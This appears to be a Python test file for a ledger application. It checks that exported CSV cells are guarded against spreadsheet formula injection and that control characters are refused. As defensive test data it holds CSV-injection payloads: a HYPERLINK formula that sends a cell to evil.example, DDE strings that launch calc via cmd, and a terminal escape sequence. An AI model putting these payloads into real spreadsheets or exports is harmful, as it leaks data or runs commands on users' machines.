"""Texts of a CSV survive a round trip, and are no formula in a spreadsheet."""

import csv
import io
import json
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings, strategies as st

from ledger.core import texts
from ledger.core.cells import unguard
from tests.admin.conftest import Command
from tests.one_book.books import Books
from tests.world import World

SIGNS = ("=", "+", "-", "@", "\t", "\r", "'", "\n", "\uff1d")
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
TEXT = (
    st.tuples(st.sampled_from(["", *SIGNS, "''", "'="]), st.text(max_size=8)).map("".join)
).filter(lambda text: texts.is_plain(text) and "\r" not in text)
HEADER = "entry,date,currency,description,account_name,account_type,debit,credit,line_description"


@pytest.fixture
def books(world: World) -> Books:
    return Books(world)


@settings(max_examples=8, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    description=TEXT,
    line=TEXT,
    name=TEXT.filter(lambda text: text.strip() and texts.is_name(texts.normal(text))),
)
@example(description=FORMULA, line="+1+cmd|' /C calc'!A0", name="@SUM(1+1)*cmd|' /C calc'!A0")
@example(description="'", line="''=1", name="'=1")
def test_a_csv_moves_its_texts_to_another_book(
    command: Command, books: Books, description: str, line: str, name: str
) -> None:
    tenant = books.world.tenant.tenant_id
    first, second = (create_business(command, tenant) for _ in range(2))
    rows = [["e", "2026-01-31", "USD", description, name, "asset", "1.00", "", line]]
    rows += [["e", "2026-01-31", "USD", description, "Sales", "revenue", "", "1.00", ""]]
    typed = HEADER + "\n" + written(rows)
    assert command("import", tenant, first, "csv", "--quiet", stdin=typed)[0] == 0
    text = command("export", tenant, first, "csv", "--quiet")[1]
    for row in csv.reader(io.StringIO(text)):
        assert not [cell for cell in row if cell.startswith(SIGNS) and not cell.startswith("'")]
    assert command("import", tenant, second, "csv", "--quiet", stdin=text)[0] == 0
    again = command("export", tenant, second, "csv", "--quiet")[1]
    assert (
        texts_of(again)
        == texts_of(text)
        == {(description, texts.normal(name), line), (description, "Sales", "")}
    )


def create_business(command: Command, tenant: str) -> str:
    answer = command("business", "create", tenant, "Book", "--currency", "USD")
    business: str = json.loads(answer[1])["business_id"]
    return business


def written(rows: list[list[str]]) -> str:
    file = io.StringIO()
    csv.writer(file).writerows(rows)
    return file.getvalue()


def texts_of(text: str) -> set[tuple[str, ...]]:
    names = ("description", "account_name", "line_description")
    rows: list[dict[str, Any]] = list(csv.DictReader(io.StringIO(text)))
    return {tuple(unguard(row[name]) for name in names) for row in rows}


def test_a_quote_in_a_foreign_csv_is_part_of_the_text(command: Command, books: Books) -> None:
    tenant = books.world.tenant.tenant_id
    business = create_business(command, tenant)
    rows = [["e", "2026-01-31", "USD", "'=1", "A", "asset", "1.00", "", "''"]]
    rows += [["e", "2026-01-31", "USD", "'=1", "B", "asset", "", "1.00", ""]]
    typed = HEADER + "\n" + written(rows)
    assert command("import", tenant, business, "csv", "--quiet", stdin=typed)[0] == 0
    text = command("export", tenant, business, "csv", "--quiet")[1]
    assert texts_of(text) == {("'=1", "A", "''"), ("'=1", "B", "")}


@pytest.mark.parametrize("column", ["description", "account_name", "line_description", "entry"])
@pytest.mark.parametrize("odd", ["\x1b]0;owned\x07", "\0", "\u202e", "\x9b"], ids=ascii)
def test_a_cell_with_a_forbidden_character_is_refused(
    command: Command, books: Books, column: str, odd: str
) -> None:
    row = dict(zip(HEADER.split(","), ["e", "2026-01-31", "USD", *"abcdef"], strict=True))
    row |= {"account_type": "asset", "debit": "1.00", "credit": "", column: f"a{odd}"}
    scope = (books.world.tenant.tenant_id, books.business_id)
    typed = HEADER + "\n" + written([list(row.values())])
    status, printed, _ = command("import", *scope, "csv", "--quiet", stdin=typed)
    assert status == 1
    (result,) = map(json.loads, printed.splitlines())
    assert f"{column}: must not contain U+{ord(odd[0]):04X}" in result["why"]
    assert texts.is_plain(printed)


def test_the_account_of_a_row_is_found_by_each_spelling(command: Command, books: Books) -> None:
    tenant = books.world.tenant.tenant_id
    business = create_business(command, tenant)
    head = "entry,date,currency,account_number,account_name,account_type,debit,credit"
    rows = [
        ["1", "512", "", "asset", "1.00", ""],
        ["1", " 706 ", "Caf\u00e9", "revenue", "", "1.00"],
        ["2", "512 ", "", "", "1.00", ""],
        ["2", "706\n", "", "", "", "1.00"],
        ["3", "", "Th\u00e9 ", "asset", "1.00", ""],
        ["3", "", "The\u0301", "asset", "", "1.00"],
    ]
    rows = [[entry, "2026-01-31", "USD", *more] for entry, *more in rows]
    typed = head + "\n" + written(rows)
    assert command("import", tenant, business, "csv", "--quiet", stdin=typed)[0] == 0
    text = command("export", tenant, business, "csv", "--quiet")[1]
    exported = list(csv.DictReader(io.StringIO(text)))
    assert {row["account_number"] for row in exported} == {"512", "706", ""}
    assert len({row["account"] for row in exported}) == 3
    bad = typed.replace("512,,asset", "5 12,,asset")
    results = command(
        "import", tenant, create_business(command, tenant), "csv", "--quiet", stdin=bad
    )[1]
    assert "account_number: must have no spaces" in results
